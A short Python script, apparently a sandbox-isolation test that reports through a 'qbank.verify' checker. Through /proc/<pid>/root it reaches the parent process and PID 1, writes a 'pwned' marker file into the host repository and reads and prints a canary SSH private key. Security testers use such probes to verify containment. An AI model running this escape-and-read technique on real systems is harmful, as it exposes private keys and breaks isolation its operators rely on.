import os

from qbank.verify import check

for pid in (os.getppid(), 1):
    try:
        fd = os.open(f"/proc/{pid}/root@REPO@/pwned-by-attack", os.O_WRONLY | os.O_CREAT)
        os.write(fd, b"pwned")
    except OSError:
        pass
key = open(f"/proc/{os.getppid()}/root@HOME@/.ssh/id_canary").read()
print(key)
check(True, "escaped")
